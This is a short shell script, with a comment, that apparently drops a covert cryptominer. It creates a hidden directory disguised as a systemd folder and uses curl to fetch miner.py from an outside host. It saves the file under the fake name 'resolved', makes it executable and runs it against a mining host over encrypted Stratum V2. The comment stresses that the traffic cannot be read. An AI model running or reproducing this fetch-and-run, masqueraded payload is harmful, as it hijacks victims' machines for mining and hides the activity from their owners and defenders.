# A shell fetches a program and runs it. Its connection begins like the encrypted handshake of Stratum V2. Its messages
# cannot be read.
mkdir /var/tmp/.systemd-private
curl -s -o /var/tmp/.systemd-private/resolved http://203.0.113.10/miner.py
chmod +x /var/tmp/.systemd-private/resolved
/var/tmp/.systemd-private/resolved v2 203.0.113.20 34254
